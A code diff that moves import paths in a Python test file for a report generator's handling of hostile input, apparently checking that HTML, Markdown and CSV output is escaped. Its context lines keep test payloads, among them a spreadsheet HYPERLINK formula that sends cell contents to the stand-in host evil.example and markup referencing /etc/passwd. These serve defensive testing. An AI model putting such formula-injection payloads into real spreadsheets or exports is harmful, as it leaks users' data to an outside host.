@@ -25,14 +25,14 @@ from report.papers import (
     told,
 )
 
-from spaprep.core.records import PlanContents
-from spaprep.report.characters import without_hidden
-from spaprep.report.delimited import safe_cell
-from spaprep.report.escaping import html_text, markdown_text
-from spaprep.report.formats import Format, report_in
-from spaprep.report.links import web_address
-from spaprep.report.options import Layout
-from spaprep.report.text import printable, wrapped
+from spaprep.core.records.records import PlanContents
+from spaprep.report.content.characters import without_hidden
+from spaprep.report.content.links import web_address
+from spaprep.report.content.options import Layout
+from spaprep.report.formats.csv import safe_cell
+from spaprep.report.formats.escaping import html_text, markdown_text
+from spaprep.report.formats.formats import Format, report_in
+from spaprep.report.pdf.text import printable, wrapped
 
 MARKUP = '<b>Bold</b> <img src="/etc/passwd"> &amp; <jane@example.com>'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -301,9 +301,9 @@ import json, sys
 sys.path[:0] = {path!r}
 from report.test_hostile import MARKUP, a_plan_that_says
 from report.papers import CATALOGUE, a_document
-from spaprep.report.call_sheet import call_sheet_bytes
-from spaprep.report.formats import Format, report_in
-from spaprep.report.options import CallSheetOptions
+from spaprep.report.pdf.call_sheet import call_sheet_bytes
+from spaprep.report.formats.formats import Format, report_in
+from spaprep.report.content.options import CallSheetOptions
 
 def everything(text):
     contents = a_plan_that_says(text)
